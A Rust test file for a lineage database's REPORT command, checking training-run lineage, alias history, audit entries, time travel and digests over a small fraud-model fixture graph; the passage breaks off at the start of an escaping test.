//! `REPORT ref [AS OF at] [FORMAT f]`: the lineage report on one node. Its
//! content (training run, inputs, upstream datasets, chain, downstream,
//! alias periods), its audit selection, time travel, the digest, escaping of
//! data in the Markdown and HTML documents, and its errors.

use std::collections::{BTreeSet, HashSet};

use lineagedb_query::syntax::ReportFormat;
use lineagedb_query::{Database, ErrorKind, Format, QueryResult, ReportDocument, run};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

#[path = "support/markdown.rs"]
mod markdown;
use markdown::{md_row_with, md_section};

// ---------------------------------------------------------------- fixture

/// The graph, one snapshot per script:
///
/// 1. raw -> run:clean_1 -> clean (with job:clean), and an unrelated dataset -> model:other
/// 2. code:repo@1, job:train, run:train_1 (input clean) -> model:fraud@1
/// 3. fraud@1 promoted to production; deployment:api@1 serves it
/// 4. code:repo@2, run:train_2 (input clean) -> model:fraud@2
/// 5. fraud@2 promoted to production; deployment:api@2 serves it
/// 6. rollback: fraud@1 promoted to production again
/// 7. unrelated changes only
const SNAPSHOTS: [&str; 7] = [
    r#"BEGIN AUTHOR "ana" MESSAGE "ingest and clean";
       CREATE dataset:raw SET {source: "s3://lake/raw.parquet", sha256: "abc123", owner: "data-eng",
                               schema: [{name: "id", type: "int"}, {name: "amount", type: "double"}]};
       CREATE job:clean SET {entrypoint: "clean.py"};
       CREATE run:clean_1 SET {status: "succeeded", command: "python clean.py"};
       CREATE dataset:clean SET {source: "s3://lake/clean.parquet", owner: "data-eng", content_hash: "sha256:def456"};
       LINK dataset:raw@1 -> run:clean_1@1 AS input;
       LINK job:clean@1 -> run:clean_1@1 AS job;
       LINK run:clean_1@1 -> dataset:clean@1 AS output;
       CREATE dataset:unrelated SET {source: "s3://elsewhere"};
       CREATE model:other;
       LINK dataset:unrelated@1 -> model:other@1 AS input;
       COMMIT"#,
    r#"BEGIN AUTHOR "bruno" MESSAGE "train v1";
       CREATE code:repo SET {commit: "1111aaaa", branch: "main"};
       CREATE job:train SET {entrypoint: "train.py"};
       CREATE run:train_1 SET {status: "succeeded", host: "gpu-1", command: "python train.py --lr 0.1",
                               params: {lr: 0.1, depth: 6}, started_at: t'2026-01-02T09:00:00Z'};
       CREATE model:fraud SET {auc: 0.91};
       LINK code:repo@1 -> run:train_1@1 AS code;
       LINK job:train@1 -> run:train_1@1 AS job;
       LINK dataset:clean@1 -> run:train_1@1 AS input;
       LINK run:train_1@1 -> model:fraud@1 AS output;
       COMMIT"#,
    r#"BEGIN AUTHOR "carla" MESSAGE "release v1";
       PROMOTE model:fraud@1 TO production REASON "first release";
       CREATE deployment:api SET {replicas: 2};
       LINK model:fraud@1 -> deployment:api@1 AS serves;
       COMMIT"#,
    r#"BEGIN AUTHOR "bruno" MESSAGE "train v2";
       CREATE code:repo SET {commit: "2222bbbb", branch: "deep"};
       CREATE run:train_2 SET {status: "succeeded", command: "python train.py --lr 0.05", params: {lr: 0.05, depth: 8}};
       CREATE model:fraud SET {auc: 0.93};
       LINK code:repo@2 -> run:train_2@1 AS code;
       LINK job:train@1 -> run:train_2@1 AS job;
       LINK dataset:clean@1 -> run:train_2@1 AS input;
       LINK run:train_2@1 -> model:fraud@2 AS output;
       COMMIT"#,
    r#"BEGIN AUTHOR "carla" MESSAGE "release v2";
       PROMOTE model:fraud@2 TO production REASON "better auc";
       CREATE deployment:api SET {replicas: 3};
       LINK model:fraud@2 -> deployment:api@2 AS serves;
       COMMIT"#,
    r#"BEGIN AUTHOR "carla" MESSAGE "roll back to v1";
       PROMOTE model:fraud@1 TO production REASON "rollback: v2 false positives";
       COMMIT"#,
    r#"BEGIN AUTHOR "dora" MESSAGE "unrelated";
       SET model:other@1 {description: "not part of any fraud report"};
       CREATE dataset:unrelated SET {source: "s3://elsewhere/2"};
       COMMIT"#,
];

/// Every key upstream of model:fraud@1.
const FRAUD1_UPSTREAM: [&str; 7] =
    ["code:repo@1", "dataset:clean@1", "dataset:raw@1", "job:clean@1", "job:train@1", "run:clean_1@1", "run:train_1@1"];

fn database() -> Database {
    Database::in_memory().expect("in-memory database")
}

/// Runs `src`, panicking with the rendered error if it fails.
fn exec(db: &Database, src: &str) -> Vec<QueryResult> {
    run(db, src).unwrap_or_else(|e| panic!("query failed:\n{}", e.render(src)))
}

/// A database holding the first `n` snapshots of [`SNAPSHOTS`].
fn graph(n: usize) -> Database {
    let db = database();
    for script in &SNAPSHOTS[..n] {
        exec(&db, script);
    }
    db
}

/// The report document of the single `REPORT` statement `src`.
fn document(db: &Database, src: &str) -> ReportDocument {
    let mut results = exec(db, src);
    assert_eq!(results.len(), 1, "{src}");
    match results.pop() {
        Some(QueryResult::Report(doc)) => *doc,
        other => panic!("{src} gave {other:?}"),
    }
}

/// The report's JSON, as `Format::Json` prints it (parsed back).
fn report_json(db: &Database, src: &str) -> Value {
    let results = exec(db, src);
    let line = results[0].render(Format::Json);
    assert!(!line.contains('\n'), "JSON output is one line: {line}");
    serde_json::from_str(&line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}"))
}

fn strings(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|s| s.as_str().unwrap_or_else(|| panic!("not a string: {s}")).to_owned())
        .collect()
}

/// The values of `field` (strings) in an array of objects.
fn field(v: &Value, name: &str) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|o| o[name].as_str().unwrap_or_else(|| panic!("no string {name} in {o}")).to_owned())
        .collect()
}

/// SHA-256 (hex) of the compact JSON of `report` without its `digest`.
fn recompute_digest(report: &Value) -> String {
    let mut content = report.clone();
    content.as_object_mut().expect("the report is an object").remove("digest");
    Sha256::digest(content.to_string().as_bytes()).iter().map(|b| format!("{b:02x}")).collect()
}

/// The keys of every node of a report: subject, upstream and downstream.
fn report_keys(report: &Value) -> BTreeSet<String> {
    let mut keys: BTreeSet<String> = field(&report["upstream"], "key").into_iter().collect();
    keys.extend(field(&report["downstream"], "key"));
    keys.insert(report["subject"]["key"].as_str().expect("subject key").to_owned());
    keys
}

// ---------------------------------------------------------------- contents

#[test]
fn the_report_names_the_training_run_its_code_params_command_and_inputs() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    assert_eq!(r["report"], "lineage");
    assert_eq!(r["subject"]["key"], "model:fraud@1");
    assert_eq!(r["subject"]["type"], "model");
    assert_eq!(r["subject"]["created_in"], 2);
    assert_eq!(r["subject"]["created_by"], "bruno");
    assert_eq!(r["subject"]["props"], json!({"auc": 0.91}));
    assert_eq!(r["snapshot"]["id"], 7);
    assert_eq!(r["snapshot"]["author"], "dora");
    assert_eq!(r["snapshot"]["message"], "unrelated");

    let runs = r["training_runs"].as_array().expect("training_runs");
    assert_eq!(runs.len(), 1, "only run:train_1 has an edge into fraud@1: {runs:?}");
    let run = &runs[0];
    assert_eq!(run["key"], "run:train_1@1");
    assert_eq!(run["edge_label"], "output");
    assert_eq!(run["status"], "succeeded");
    assert_eq!(run["host"], "gpu-1");
    assert_eq!(run["command"], "python train.py --lr 0.1");
    assert_eq!(run["params"], json!({"lr": 0.1, "depth": 6}));
    assert_eq!(run["started_at"], "2026-01-02T09:00:00Z");
    assert_eq!(run["exit_code"], Value::Null);
    assert_eq!(strings(&run["jobs"]), ["job:train@1"]);
    assert_eq!(
        run["code"],
        json!([{"key": "code:repo@1", "commit": "1111aaaa", "branch": "main", "dirty": null, "remote": null}])
    );
    assert_eq!(
        run["inputs"],
        json!([{"key": "dataset:clean@1", "edge_label": "input", "external_version": null,
                "content_hash": "sha256:def456", "source": "s3://lake/clean.parquet"}])
    );

    // The recipe re-runs the whole chain, upstream first: cleaning, then training.
    let recipe = r["recipe"].as_array().expect("recipe");
    assert_eq!(recipe.len(), 2, "{recipe:?}");
    assert_eq!(recipe[0]["run"], "run:clean_1@1");
    assert_eq!(recipe[0]["outputs"][0]["key"], "dataset:clean@1");
    let train = &recipe[1];
    assert_eq!(train["run"], "run:train_1@1");
    assert_eq!(train["command"], "python train.py --lr 0.1");
    assert_eq!(train["params"], json!({"lr": 0.1, "depth": 6}));
    assert_eq!(train["code"], run["code"]);
    assert_eq!(train["inputs"], run["inputs"]);
    assert_eq!(train["outputs"][0]["key"], "model:fraud@1");

    // fraud@2 has its own run and code, not fraud@1's.
    let r2 = report_json(&db, "REPORT model:fraud@2 FORMAT json");
    assert_eq!(field(&r2["training_runs"], "key"), ["run:train_2@1"]);
    assert_eq!(r2["training_runs"][0]["code"][0]["commit"], "2222bbbb");
    assert_eq!(r2["training_runs"][0]["code"][0]["branch"], "deep");
}

#[test]
fn upstream_datasets_carry_source_content_hash_owner_and_schema() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    let datasets = r["upstream_datasets"].as_array().expect("upstream_datasets");
    assert_eq!(field(&r["upstream_datasets"], "key"), ["dataset:clean@1", "dataset:raw@1"], "by depth: {datasets:?}");
    let raw = &datasets[1];
    assert_eq!(raw["depth"], 4);
    assert_eq!(raw["source"], "s3://lake/raw.parquet");
    assert_eq!(raw["content_hash"], "sha256:abc123", "a bare sha256 gets its algorithm prefix");
    assert_eq!(raw["owner"], "data-eng");
    assert_eq!(raw["schema"], json!([{"name": "id", "type": "int"}, {"name": "amount", "type": "double"}]));
    assert!(raw["record_digest"].as_str().is_some_and(|d| d.len() == 64), "{raw}");
    let clean = &datasets[0];
    assert_eq!(clean["depth"], 2);
    assert_eq!(clean["content_hash"], "sha256:def456", "a prefixed content_hash is kept as it is");
    assert_eq!(clean["schema"], Value::Null);

    let upstream: BTreeSet<String> = field(&r["upstream"], "key").into_iter().collect();
    assert_eq!(upstream, FRAUD1_UPSTREAM.iter().map(|k| (*k).to_owned()).collect());
    let depths: Vec<u64> = r["upstream"].as_array().unwrap().iter().map(|n| n["depth"].as_u64().unwrap()).collect();
    assert!(depths.windows(2).all(|w| w[0] <= w[1]), "upstream by depth: {depths:?}");
    for unrelated in ["dataset:unrelated@1", "model:other@1", "run:train_2@1", "model:fraud@2", "code:repo@2"] {
        assert!(!upstream.contains(unrelated) && !report_keys(&r).contains(unrelated), "{unrelated} in {r}");
    }
}

#[test]
fn downstream_consumers_are_the_deployments_of_this_version_only() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    let downstream = r["downstream"].as_array().expect("downstream");
    assert_eq!(downstream.len(), 1, "{downstream:?}");
    assert_eq!(downstream[0]["key"], "deployment:api@1");
    assert_eq!(downstream[0]["type"], "deployment");
    assert_eq!(downstream[0]["depth"], 1);
    assert_eq!(downstream[0]["via"], json!([{"from": "model:fraud@1", "label": "serves"}]));

    let r2 = report_json(&db, "REPORT model:fraud@2 FORMAT json");
    assert_eq!(field(&r2["downstream"], "key"), ["deployment:api@2"]);

    // A dataset's downstream reaches every model trained on it, through the runs.
    let d = report_json(&db, "REPORT dataset:clean@1 FORMAT json");
    let keys: BTreeSet<String> = field(&d["downstream"], "key").into_iter().collect();
    for k in
        ["run:train_1@1", "run:train_2@1", "model:fraud@1", "model:fraud@2", "deployment:api@1", "deployment:api@2"]
    {
        assert!(keys.contains(k), "{k} missing from {keys:?}");
    }
    assert!(d["training_runs"].as_array().unwrap().iter().any(|r| r["key"] == "run:clean_1@1"));
}

#[test]
fn alias_spans_record_promotion_moving_away_and_promotion_again() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    let aliases = r["subject"]["aliases"].as_array().expect("aliases");
    assert_eq!(aliases.len(), 2, "{aliases:?}");
    let (first, again) = (&aliases[0], &aliases[1]);
    assert_eq!(first["alias"], "production");
    assert_eq!(first["since"], 3);
    assert_eq!(first["until"], 5, "fraud@2's promotion in snapshot 5 moved it away");
    assert_eq!(first["held_now"], false);
    assert_eq!(first["by"], "carla");
    assert_eq!(first["reason"], "first release");
    assert_eq!(first["previous"], Value::Null);
    assert_eq!(again["alias"], "production");
    assert_eq!(again["since"], 6);
    assert_eq!(again["until"], Value::Null);
    assert_eq!(again["held_now"], true);
    assert_eq!(again["previous"], 2);
    assert_eq!(again["reason"], "rollback: v2 false positives");

    let r2 = report_json(&db, "REPORT model:fraud@2 FORMAT json");
    let aliases = r2["subject"]["aliases"].as_array().expect("aliases");
    assert_eq!(aliases.len(), 1, "{aliases:?}");
    assert_eq!(aliases[0]["since"], 5);
    assert_eq!(aliases[0]["until"], 6);
    assert_eq!(aliases[0]["previous"], 1);
    assert_eq!(aliases[0]["reason"], "better auc");

    // A reference through the alias reports on the version holding it.
    let by_alias = report_json(&db, "REPORT model:fraud@production FORMAT json");
    assert_eq!(by_alias["subject"]["key"], "model:fraud@1");
    assert_eq!(by_alias["digest"], r["digest"]);

    // Markdown: the period that ended names the snapshot that ended it.
    let md = document(&db, "REPORT model:fraud@1").render(ReportFormat::Markdown);
    assert!(md.contains("| aliases now | production |"), "{md}");
    assert!(md.contains("from snapshot 3 until snapshot 5"), "{md}");
    assert!(md.contains("since snapshot 6"), "{md}");

    // Promoted again while holding it: the same period. Another alias: a period of its own.
    exec(&db, r#"PROMOTE model:fraud@1 TO production REASON "reconfirmed"; PROMOTE model:fraud@1 TO champion"#);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    let spans: Vec<(String, Value, Value)> = r["subject"]["aliases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["alias"].as_str().unwrap().to_owned(), a["since"].clone(), a["until"].clone()))
        .collect();
    assert_eq!(
        spans,
        [
            ("production".to_owned(), json!(3), json!(5)),
            ("production".to_owned(), json!(6), Value::Null),
            ("champion".to_owned(), json!(9), Value::Null),
        ]
    );
}

#[test]
fn the_chain_is_a_topological_order_of_the_upstream_ending_with_the_subject() {
    let db = graph(7);
    for subject in ["model:fraud@1", "model:fraud@2", "dataset:clean@1", "deployment:api@1"] {
        let r = report_json(&db, &format!("REPORT {subject} FORMAT json"));
        let chain = r["chain"].as_array().expect("chain");
        let order = field(&r["chain"], "key");
        assert_eq!(order.last().map(String::as_str), Some(subject), "{order:?}");
        let unique: HashSet<&String> = order.iter().collect();
        assert_eq!(unique.len(), order.len(), "each node once: {order:?}");
        let mut expected: BTreeSet<String> = field(&r["upstream"], "key").into_iter().collect();
        expected.insert(subject.to_owned());
        assert_eq!(order.iter().cloned().collect::<BTreeSet<_>>(), expected, "the chain is every upstream node");

        let position = |key: &str| order.iter().position(|k| k == key).unwrap_or_else(|| panic!("{key} not in chain"));
        let mut edges = 0;
        for (i, step) in chain.iter().enumerate() {
            assert_eq!(step["type"], step["key"].as_str().unwrap().split(':').next().unwrap());
            for from in step["from"].as_array().expect("from") {
                let from_key = from["from"].as_str().expect("from key");
                assert!(position(from_key) < i, "{from_key} must come before {}: {order:?}", step["key"]);
                edges += 1;
            }
        }
        if subject == "model:fraud@1" {
            // raw->clean_1, job:clean->clean_1, clean_1->clean, clean->train_1, code->train_1, job:train->train_1, train_1->fraud@1
            assert_eq!(edges, 7, "{chain:?}");
            let last = &chain[chain.len() - 1];
            assert_eq!(last["from"], json!([{"from": "run:train_1@1", "label": "output"}]));
        }
    }
}

#[test]
fn the_markdown_document_has_every_section_in_order() {
    let db = graph(7);
    let results = exec(&db, "REPORT model:fraud@1 FORMAT markdown");
    let md = results[0].render(Format::Table);
    assert!(md.starts_with("# Lineage report: model:fraud@1\n"), "{md}");
    assert_eq!(md.trim_end(), document(&db, "REPORT model:fraud@1").render(ReportFormat::Markdown).trim_end());
    // Without FORMAT, the table rendering still names the subject, the snapshot and the digest.
    let plain = exec(&db, "REPORT model:fraud@1")[0].render(Format::Table);
    let digest = document(&db, "REPORT model:fraud@1").digest;
    assert!(plain.contains("Lineage report: model:fraud@1") && plain.contains(&digest), "{plain}");
    assert!(plain.contains("Taken at snapshot 7"), "{plain}");
    let sections = [
        "## Summary",
        "## Training run",
        "### run:train\\_1@1",
        "## Upstream datasets",
        "## Transformation chain",
        "## Downstream consumers",
        "## Audit entries",
        "## Reproduction recipe",
    ];
    let mut at = 0;
    for s in sections {
        let found = md[at..].find(&format!("\n{s}\n")).unwrap_or_else(|| panic!("no {s:?} after byte {at}:\n{md}"));
        at += found + 1;
    }
    assert!(md.contains("Taken at snapshot 7"), "{md}");
    let code = md_row_with(&md, "Training run", "code");
    assert!(code[1].contains("code:repo@1") && code[1].contains("1111aaaa") && code[1].contains("main"), "{code:?}");
    assert_eq!(md_row_with(&md, "Training run", "command")[1], "python train.py --lr 0.1");
    assert_eq!(md_row_with(&md, "Training run", "host")[1], "gpu-1");
    let params: Value = serde_json::from_str(&md_row_with(&md, "Training run", "params")[1]).expect("params as JSON");
    assert_eq!(params, json!({"lr": 0.1, "depth": 6}));
    let input = md_row_with(&md, "Training run", "dataset:clean@1");
    assert!(input.contains(&"input".to_owned()) && input.contains(&"s3://lake/clean.parquet".to_owned()), "{input:?}");
    let raw = md_row_with(&md, "Upstream datasets", "dataset:raw@1");
    for cell in ["4", "s3://lake/raw.parquet", "data-eng", "id: int, amount: double"] {
        assert!(raw.contains(&cell.to_owned()), "{cell:?} not in {raw:?}");
    }
    assert!(raw.iter().any(|c| c.contains("sha256:abc123")), "{raw:?}");
    let deployment = md_row_with(&md, "Downstream consumers", "deployment:api@1");
    assert!(deployment.contains(&"model:fraud@1 (serves)".to_owned()), "{deployment:?}");
    let chain = md_section(&md, "Transformation chain");
    let (raw_at, subject_at) =
        (chain.find("dataset:raw@1").expect("raw"), chain.rfind("model:fraud@1").expect("subject"));
    assert!(raw_at < subject_at, "{chain}");
    let audit = md_section(&md, "Audit entries");
    assert!(!audit.contains("unrelated") && !audit.contains("model:other"), "{audit}");
    let recipe = md.split("## Reproduction recipe").nth(1).expect("recipe section");
    let script: Vec<&str> =
        recipe.split("```sh\n").nth(1).expect("a sh block").split("\n```").next().expect("closed").lines().collect();
    assert_eq!(
        script[2..],
        [
            "# step 1 of 2: run:clean_1@1",
            "# no code version recorded for this run",
            "# input dataset:raw@1 (input) sha256:abc123 at s3://lake/raw.parquet",
            "python clean.py",
            "# output dataset:clean@1 (output) sha256:def456 at s3://lake/clean.parquet",
            "# step 2 of 2: run:train_1@1",
            "git checkout 1111aaaa",
            "# input dataset:clean@1 (input) sha256:def456 at s3://lake/clean.parquet",
            r#"# params {"depth":6,"lr":0.1}"#,
            "python train.py --lr 0.1",
            "# output model:fraud@1 (output)",
        ]
    );
    assert_eq!(script[0], "set -eu");
    assert!(script[1].starts_with("check() {"), "{script:?}");

    // FORMAT picks the table rendering; the JSON rendering of a non-JSON
    // FORMAT wraps the document with its digest.
    let html = exec(&db, "REPORT model:fraud@1 FORMAT html");
    assert!(html[0].render(Format::Table).starts_with("<!DOCTYPE html>"));
    let dot = exec(&db, "REPORT model:fraud@1 FORMAT dot");
    let wrapped: Value = serde_json::from_str(&dot[0].render(Format::Json)).expect("JSON");
    assert_eq!(wrapped["format"], "dot");
    assert!(wrapped["document"].as_str().is_some_and(|d| d.contains("digraph lineage {")), "{wrapped}");
    let doc = document(&db, "REPORT model:fraud@1 FORMAT dot");
    assert_eq!(wrapped["digest"], doc.digest.as_str());
    assert_eq!(wrapped["document"], doc.render(ReportFormat::Dot).as_str());
}

#[test]
fn csv_lists_every_node_of_the_report_with_its_part_and_record_digest() {
    let db = graph(7);
    let results = exec(&db, "REPORT model:fraud@1");
    let csv = results[0].render(Format::Csv);
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("part,depth,key,type,record_digest"));
    let rows: Vec<Vec<&str>> = lines.map(|l| l.split(',').collect()).collect();
    let doc = document(&db, "REPORT model:fraud@1");
    assert_eq!(rows[0], ["subject", "0", "model:fraud@1", "model", doc.report.subject.record_digest.as_str()]);
    assert_eq!(rows.len(), 1 + FRAUD1_UPSTREAM.len() + 1, "{csv}");
    assert_eq!(rows.iter().filter(|r| r[0] == "upstream").count(), FRAUD1_UPSTREAM.len());
    assert_eq!(rows.last().map(|r| (r[0], r[2])), Some(("downstream", "deployment:api@1")));
}

// ---------------------------------------------------------------- audit

#[test]
fn audit_entries_are_those_of_the_report_nodes_and_nothing_unrelated() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    let keys = report_keys(&r);
    let created: BTreeSet<u64> = {
        let mut c: BTreeSet<u64> = BTreeSet::new();
        for n in r["upstream"].as_array().unwrap().iter().chain(r["downstream"].as_array().unwrap()) {
            let all = exec(&db, &format!("SHOW {}", n["key"].as_str().unwrap()));
            c.insert(all[0].to_json()["node"]["created_in"].as_u64().expect("created_in"));
        }
        c.insert(r["subject"]["created_in"].as_u64().unwrap());
        c
    };
    let audit = r["audit"].as_array().expect("audit");
    assert!(!audit.is_empty());
    let seqs: Vec<u64> = audit.iter().map(|e| e["seq"].as_u64().expect("seq")).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "oldest first: {seqs:?}");
    for e in audit {
        let subjects = strings(&e["subjects"]);
        let names_subject = subjects.iter().any(|s| s == "model:fraud@1");
        let within = !subjects.is_empty() && subjects.iter().all(|s| keys.contains(s));
        let batch = subjects.is_empty() && created.contains(&e["snapshot"].as_u64().unwrap());
        let moved_alias_away = e["op"] == "promote" && subjects.iter().all(|s| s.starts_with("model:fraud@"));
        assert!(names_subject || within || batch || moved_alias_away, "entry not about the report: {e}");
        for field in ["seq", "snapshot", "time", "author", "op", "subjects", "detail", "digest", "prev_hash", "hash"] {
            assert!(e.get(field).is_some(), "audit entry without {field}: {e}");
        }
    }

    // Exactly the entries of the whole log that qualify: nothing missing.
    let log = exec(&db, "AUDIT")[0].to_json();
    let expected: Vec<u64> = log["audit"]
        .as_array()
        .expect("audit log")
        .iter()
        .filter(|e| {
            let subjects = strings(&e["subjects"]);
            subjects.iter().any(|s| s == "model:fraud@1")
                || (!subjects.is_empty() && subjects.iter().all(|s| keys.contains(s)))
                || (subjects.is_empty() && created.contains(&e["snapshot"].as_u64().unwrap()))
                // The promotion that moved `production` away from fraud@1.
                || (e["op"] == "promote" && e["snapshot"] == 5 && subjects == ["model:fraud@2"])
        })
        .map(|e| e["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, expected);
    // The full entries are the log's own (hashes included).
    for e in audit {
        let same = log["audit"].as_array().unwrap().iter().find(|x| x["seq"] == e["seq"]).expect("in the log");
        assert_eq!(e, same);
    }

    // The unrelated nodes and snapshot 7 are absent; fraud@2's promotion,
    // which moved `production` away from fraud@1, and the rollback
    // promotion of fraud@1 are present.
    for e in audit {
        let subjects = strings(&e["subjects"]);
        assert!(
            !subjects.iter().any(|s| s == "dataset:unrelated@1" || s == "dataset:unrelated@2" || s == "model:other@1"),
            "{e}"
        );
        assert_ne!(e["snapshot"], 7, "{e}");
    }
    let promotions: Vec<u64> =
        audit.iter().filter(|e| e["op"] == "promote").map(|e| e["snapshot"].as_u64().unwrap()).collect();
    assert_eq!(promotions, [3, 5, 6]);
    // `LINK dataset:clean@1 -> run:train_2@1` names a report node, but it
    // belongs to fraud@2's lineage, not to this one.
    assert!(!audit.iter().any(|e| strings(&e["subjects"]).contains(&"run:train_2@1".to_owned())));
}

// ---------------------------------------------------------------- time travel

#[test]
fn as_of_excludes_everything_after_the_snapshot() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1 AS OF 2 FORMAT json");
    assert_eq!(r["snapshot"]["id"], 2);
    assert_eq!(r["snapshot"]["message"], "train v1");
    assert_eq!(r["subject"]["aliases"], json!([]));
    assert_eq!(r["downstream"], json!([]), "deployment:api@1 came in snapshot 3");
    assert!(r["audit"].as_array().unwrap().iter().all(|e| e["snapshot"].as_u64().unwrap() <= 2), "{}", r["audit"]);

    let r = report_json(&db, "REPORT model:fraud@1 AS OF 4 FORMAT json");
    assert_eq!(r["snapshot"]["id"], 4);
    let aliases = r["subject"]["aliases"].as_array().unwrap();
    assert_eq!(aliases.len(), 1, "{aliases:?}");
    assert_eq!(aliases[0]["since"], 3);
    assert_eq!(aliases[0]["until"], Value::Null, "the move away in snapshot 5 is later");
    assert_eq!(aliases[0]["held_now"], true);
    assert_eq!(field(&r["downstream"], "key"), ["deployment:api@1"]);
    let audit = r["audit"].as_array().unwrap();
    assert!(audit.iter().all(|e| e["snapshot"].as_u64().unwrap() <= 4), "{audit:?}");
    assert!(audit.iter().any(|e| e["snapshot"] == 3), "the promotion of snapshot 3");
    assert!(!audit.iter().any(|e| e["snapshot"] == 4), "snapshot 4 built fraud@2's lineage, not this one");

    // A node deleted later is reported on as of a snapshot where it lived.
    exec(&db, "DETACH DELETE deployment:api@1");
    let err = run(&db, "REPORT deployment:api@1").expect_err("deleted in snapshot 8");
    assert!(err.message.contains("deployment:api@1"), "{err:?}");
    let d = report_json(&db, "REPORT deployment:api@1 AS OF 7 FORMAT json");
    assert_eq!(d["subject"]["key"], "deployment:api@1");
    assert_eq!(
        d["chain"].as_array().unwrap().last().unwrap()["from"],
        json!([{"from": "model:fraud@1", "label": "serves"}])
    );

    // A version that did not exist yet cannot be reported on.
    let err = run(&db, "REPORT model:fraud@2 AS OF 3").expect_err("fraud@2 came in snapshot 4");
    assert!(err.message.contains("model:fraud@2"), "{err:?}");
    // The alias resolves at the snapshot read.
    let by_alias = report_json(&db, "REPORT model:fraud@production AS OF 5 FORMAT json");
    assert_eq!(by_alias["subject"]["key"], "model:fraud@2");
}

#[test]
fn a_report_regenerated_as_of_its_snapshot_has_the_same_digest_after_later_changes() {
    let db = graph(3);
    // Taken when snapshot 3 was the head, without AS OF.
    let then = document(&db, "REPORT model:fraud@1");
    assert_eq!(then.report.snapshot.id, 3);
    let then_json = then.json.clone();
    let as_of_then = document(&db, "REPORT model:fraud@1 AS OF 3");
    assert_eq!(as_of_then.digest, then.digest);

    for script in &SNAPSHOTS[3..] {
        exec(&db, script);
    }
    // Later changes touching the report's own nodes: an annotation on an
    // upstream dataset and on the subject, an edge removed upstream, the
    // downstream deployment deleted.
    exec(
        &db,
        r#"SET dataset:raw@1 {owner: "new-owner"};
           SET model:fraud@1 {description: "annotated later", tags: ["audited"]};
           UNLINK job:clean@1 -> run:clean_1@1;
           DETACH DELETE deployment:api@1"#,
    );

    let later = document(&db, "REPORT model:fraud@1 AS OF 3");
    assert_eq!(later.json, then_json, "the same content, member for member");
    assert_eq!(later.digest, then.digest);
    for format in [ReportFormat::Markdown, ReportFormat::Dot, ReportFormat::Html, ReportFormat::Json] {
        assert_eq!(later.render(format), then.render(format), "{format}");
    }
    let by_time = {
        let time = then.report.snapshot.time.to_rfc3339();
        document(&db, &format!("REPORT model:fraud@1 AS OF '{time}'"))
    };
    assert_eq!(by_time.digest, then.digest, "AS OF the snapshot's time is the same report");

    // At the head it is a different report.
    let head = report_json(&db, "REPORT model:fraud@1 FORMAT json");
    assert_ne!(head["digest"], then.digest.as_str());
    assert_eq!(head["snapshot"]["id"], 11);
    assert_eq!(head["downstream"], json!([]), "deployment:api@1 was deleted");
    assert!(!field(&head["upstream"], "key").contains(&"job:clean@1".to_owned()), "job:clean was unlinked");
    let raw = head["upstream_datasets"].as_array().unwrap().iter().find(|d| d["key"] == "dataset:raw@1").unwrap();
    assert_eq!(raw["owner"], "new-owner");
    assert_eq!(head["subject"]["props"]["description"], "annotated later");
    let raw_then = then_json["upstream_datasets"].as_array().unwrap().iter().find(|d| d["key"] == "dataset:raw@1");
    assert_eq!(raw_then.unwrap()["owner"], "data-eng");
}

// ---------------------------------------------------------------- digest

#[test]
fn the_digest_is_sha256_of_the_compact_json_without_it() {
    let db = graph(7);
    for subject in ["model:fraud@1", "model:fraud@2", "dataset:raw@1", "deployment:api@2"] {
        let r = report_json(&db, &format!("REPORT {subject}"));
        let digest = r["digest"].as_str().expect("digest").to_owned();
        assert_eq!(digest.len(), 64);
        assert_eq!(recompute_digest(&r), digest, "{subject}");

        let doc = document(&db, &format!("REPORT {subject}"));
        assert_eq!(doc.digest, digest);
        assert_eq!(doc.json["digest"], digest.as_str());
        assert_eq!(recompute_digest(&doc.json), digest);
        // The pretty JSON document holds the same content.
        let pretty: Value = serde_json::from_str(&doc.render(ReportFormat::Json)).expect("pretty JSON");
        assert_eq!(pretty, r);

        // Every document states it.
        assert!(doc.render(ReportFormat::Markdown).contains(&format!("Report digest: `sha256:{digest}`")));
        assert!(
            doc.render(ReportFormat::Html)
                .contains(&format!("<meta name=\"lineagedb-report-digest\" content=\"sha256:{digest}\">"))
        );
        let dot = doc.render(ReportFormat::Dot);
        assert!(dot.lines().take(2).any(|l| l.starts_with("//") && l.contains(&format!("sha256:{digest}"))), "{dot}");
    }

    // Nothing changed: the same digest; a change anywhere: another one.
    let first = report_json(&db, "REPORT model:fraud@1")["digest"].clone();
    let second = report_json(&db, "REPORT model:fraud@1")["digest"].clone();
    assert_eq!(first, second);
    exec(&db, r#"SET dataset:raw@1 {notes: "checked"}"#);
    let changed = report_json(&db, "REPORT model:fraud@1")["digest"].clone();
    assert_ne!(changed, first, "a new annotation upstream (and a new snapshot) changes the report");
    // ...and the digest is not of the document format.
    let md = run(&db, "REPORT model:fraud@1 FORMAT markdown").unwrap()[0].to_json();
    assert_eq!(md["digest"], changed);
}

#[test]
fn a_tampered_report_no_longer_matches_its_digest() {
    let db = graph(7);
    let r = report_json(&db, "REPORT model:fraud@1");
    let mut tampered = r.clone();
    tampered["training_runs"][0]["params"]["lr"] = json!(0.2);
    assert_ne!(recompute_digest(&tampered), r["digest"].as_str().unwrap());
    let mut tampered = r.clone();
    tampered["audit"].as_array_mut().unwrap().pop();
    assert_ne!(recompute_digest(&tampered), r["digest"].as_str().unwrap());
}

// ---------------------------------------------------------------- escaping

const SPECIALS: &str = r#"BEGIN AUTHOR "eve|_<b>" MESSAGE "msg with | and <i>";
